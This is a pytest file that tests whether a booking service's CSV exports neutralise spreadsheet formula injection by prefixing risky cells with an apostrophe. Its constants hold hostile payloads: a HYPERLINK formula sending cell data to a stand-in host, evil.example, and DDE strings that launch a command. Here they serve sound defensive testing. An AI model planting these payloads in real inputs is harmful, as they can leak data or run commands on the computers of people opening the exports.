"""What tenants and visitors type never reaches a spreadsheet as a formula (CSV injection): in
every CSV booking writes for people (the day board, the gate list, the export for billing, the
utilisation report), a text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is written with a leading ``'``, so Excel, LibreOffice and Numbers show it as text instead
of running it. Numbers the code writes (attendees, minutes, money, times) and a text that is
only a number (a floor ``-1``) are written as they are. Read back with ``csv``, as every row a
person downloads."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

import pytest

from tests.booking.conftest import at, park_day
from tests.booking.factories import SpaceFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
DDE = "+cmd|' /C calc'!A0"
DASH = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"
RETURN = "\r=1+1"
FORMULAS = (HYPERLINK, SUM, DDE, DASH, TAB, RETURN)
STARTS = ("=", "+", "-", "@", "\t", "\r")


def rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200, response.get_data(as_text=True)
    assert response.mimetype == "text/csv"
    body = response.get_data().decode("utf-8-sig")
    response.close()
    return list(csv.DictReader(io.StringIO(body, newline="")))


def live(found: list[dict[str, str]]) -> list[str]:
    """The cells a spreadsheet would take for a formula (a bare number it reads as a number)."""
    return [
        cell
        for row in found
        for cell in row.values()
        if cell and cell.startswith(STARTS) and not re.fullmatch(r"[+-]?\d+(\.\d+)?", cell)
    ]


@pytest.fixture
def typed(api, db) -> dict[str, Any]:
    """A reservation whose title, note and visitors are formulas, in a room on floor -1 of a
    building whose name (park admin's) also starts with one."""
    day = park_day(3)
    space = SpaceFactory(name="=1+1 Room", building="@Phase I", floor="-1")
    body = {
        "space_id": space.id,
        "start": at(day, "10:00").isoformat(),
        "end": at(day, "11:00").isoformat(),
        "title": HYPERLINK,
        "note": DASH,
        "attendees": 4,
        "visitors": [
            {"name": SUM, "company": DDE},
            {"name": TAB, "company": RETURN},
            {"name": "Ms. Zhou", "company": "Tianfu Capital"},
        ],
    }
    made = api.post("/reservations", body, user="bob")
    assert made.status_code == 201, made.json
    return {"day": day, "reservation": made.json, "space": space}


@pytest.mark.parametrize("header", ["keys", "labels"])
@pytest.mark.parametrize("user", ["desk", "admin"])
def test_the_day_board_writes_typed_formulas_as_text(api, typed, user, header):
    found = rows(api.get(f"/board?date={typed['day']}&format=csv&header={header}", user=user))
    assert live(found) == []
    [row] = [r for r in found if r.get("reservation_id", r.get("Reservation")) == typed["reservation"]["id"]]
    if header == "keys":
        assert row["title"] == "'" + HYPERLINK
        assert row["note"] == "'" + DASH
        assert row["space"] == "'=1+1 Room"
        assert row["building"] == "'@Phase I"
        assert row["floor"] == "-1"  # only a number: nothing to run, written as it is
        assert row["attendees"] == "4"
        assert row["visitors"] == "3"
        assert row["start"] == f"{typed['day']} 10:00"


@pytest.mark.parametrize("user", ["desk", "admin"])
def test_the_gate_list_writes_typed_formulas_as_text(api, typed, user):
    found = rows(api.get(f"/gate?date={typed['day']}&format=csv&header=keys", user=user))
    assert live(found) == []
    by_name = {row["visitor"]: row for row in found}
    assert by_name["'" + SUM]["company"] == "'" + DDE
    assert by_name["'" + TAB]["company"] == "'" + RETURN
    assert by_name["Ms. Zhou"]["company"] == "Tianfu Capital"
    assert {row["title"] for row in found} == {"'" + HYPERLINK}


@pytest.mark.parametrize("user", ["alice", "desk", "admin"])
def test_the_export_for_billing_writes_typed_formulas_as_text(api, typed, user):
    day = typed["day"]
    found = rows(api.get(f"/reports/reservations.csv?from={day}&to={day}&header=keys", user=user))
    assert live(found) == []
    [row] = found
    assert row["title"] == "'" + HYPERLINK
    assert row["space"] == "'=1+1 Room"
    assert row["price"] == f"{float(typed['reservation']['price']['amount']):.2f}"  # money as written
    assert row["start"] == f"{day} 10:00"


def test_the_utilisation_report_writes_space_names_as_text(api, typed):
    day = typed["day"]
    found = rows(api.get(f"/reports/utilisation.csv?from={day}&to={day}", user="admin"))
    assert live(found) == []
    assert "'=1+1 Room" in {row["name"] for row in found}


def test_a_cell_is_made_inert_only_when_a_spreadsheet_would_run_it():
    from services.booking.queries.reports import inert  # here, so the HTTP tests run on code without it

    for formula in FORMULAS:
        assert inert(formula) == "'" + formula
    for text in ("-1", "+86", "-12.5", "Team meeting", "'=1+1", " =1+1", "成都细胞治疗", ""):
        assert inert(text) == text
    for number in (-3, 0, 4, -2.5):
        assert inert(number) == number
    assert inert(None) is None
